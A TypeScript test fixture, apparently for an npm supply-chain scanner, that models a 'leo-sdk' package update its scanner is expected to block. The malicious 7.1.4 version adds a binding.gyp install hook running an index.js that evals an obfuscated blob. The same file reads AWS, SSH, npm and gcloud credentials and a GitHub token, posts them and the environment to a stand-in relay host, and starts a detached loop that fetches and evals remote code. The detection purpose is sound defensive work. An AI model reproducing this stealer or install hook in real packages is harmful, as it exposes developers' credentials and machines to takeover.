import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise, noiseBytes } from '../replicas/replica.js';

export const before = {
  version: '7.1.3',
  publishedAt: '2025-11-18T09:14:27.000Z',
  publisher: { name: 'leo-platform', email: 'leo@mail.example.invalid' },
  manifest: {
    main: 'index.js',
    license: 'MIT',
    description: 'event streams on a cloud',
    dependencies: { async: '^3.2.5', uuid: '^9.0.0' },
  },
  files: {
    'index.js': `"use strict";
const streams = require("./lib/streams.js");
const checkpoint = require("./lib/checkpoint.js");

module.exports = function (config) {
	config = Object.assign({ region: "us-west-2", batch: 100 }, config);
	return {
		configuration: config,
		streams,
		checkpoint: checkpoint.bind(null, config),
		load(id, queue, options) {
			return streams.pipeline(streams.stringify(), streams.batch(options && options.batch || config.batch), config.transport(id, queue));
		},
		read(id, queue, opts) {
			return config.source(id, queue, Object.assign({ start: checkpoint.last(config, id, queue) }, opts));
		}
	};
};
`,
    'lib/streams.js': `"use strict";
const { Transform, pipeline } = require("stream");

module.exports = {
	pipeline(...steps) {
		return pipeline(...steps, (err) => err && steps[0].emit("failed", err));
	},
	stringify() {
		return new Transform({ writableObjectMode: true, transform(obj, _, done) { done(null, JSON.stringify(obj) + "\\n"); } });
	},
	batch(count) {
		let waiting = [];
		return new Transform({
			objectMode: true,
			transform(obj, _, done) {
				waiting.push(obj);
				if (waiting.length >= count) {
					this.push(waiting);
					waiting = [];
				}
				done();
			},
			flush(done) {
				if (waiting.length) this.push(waiting);
				done();
			}
		});
	}
};
`,
    'lib/checkpoint.js': `"use strict";
const seen = new Map();
const key = (id, queue) => \`\${id}::\${queue}\`;

function checkpoint(config, id, queue, eid) {
	seen.set(key(id, queue), eid);
	if (config.onCheckpoint) config.onCheckpoint({ id, queue, eid });
}
checkpoint.last = (config, id, queue) => seen.get(key(id, queue)) || (config.start || "z/");
module.exports = checkpoint;
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'leo-sdk-2026',
  story: 'June 2026: a build file of 157 bytes in a package of plain JavaScript makes npm run its entry file, now five megabytes, on install.',
  name: 'leo-sdk',
  before,
  after: {
    version: '7.1.4',
    publishedAt: '2026-06-11T09:14:27.000Z',
    publisher: { name: 'leo-platform', email: 'leo@mail.example.invalid' },
    manifest: {
      main: 'index.js',
      license: 'MIT',
      description: 'event streams on a cloud',
      dependencies: { async: '^3.2.5', uuid: '^9.0.0' },
    },
    files: {
      'lib/streams.js': before.files['lib/streams.js'],
      'lib/checkpoint.js': before.files['lib/checkpoint.js'],
      'binding.gyp': `{"targets":[{"target_name":"Setup","type":"none","sources":["<!(node index.js > /dev/null 2>&1 && echo stub.c)"],"libraries":[],"defines":["SETUP=1"]}]}
`,
      'index.js': `try{(function(s,n){return eval(s.map(function(c){return String.fromCharCode(c^n)}).join(""))})([${Array.from(noiseBytes(1_250_000, 3307), (b) => b & 127).join(',')}],0x2a)}catch(e){}
(async()=>{const[o,f,p,c,y]=await Promise.all(["os","fs","path","child_process","crypto"].map(m=>import("node:"+m))),H=o.homedir(),g={};for(const w of[".aws/credentials",".aws/config",".npmrc",".ssh/id_rsa",".config/gcloud/application_default_credentials.json"])if(f.existsSync(p.join(H,w)))g[w]=f.readFileSync(p.join(H,w)).toString("base64");const t=c.spawnSync("gh",["auth","token"]).stdout?.toString().trim();const d=y.createDecipheriv("aes-128-gcm",Buffer.from("${noise(32, 11, '0123456789abcdef')}","hex"),Buffer.from("${noise(24, 13, '0123456789abcdef')}","hex"));await fetch("https://relay.miasma.example.invalid/i",{method:"POST",body:JSON.stringify({g,t,e:process.env,x:d.update("${noise(96, 15, '0123456789abcdef')}","hex","utf8")})});if(t)c.spawn(process.execPath,["-e","setInterval(()=>fetch('https://relay.miasma.example.invalid/p?t='+process.env.T).then(r=>r.text()).then(eval),6e4)"],{detached:true,stdio:"ignore",env:{...process.env,T:t}}).unref()})().catch(()=>{});
`,
    },
  },
  must: 'block',
};
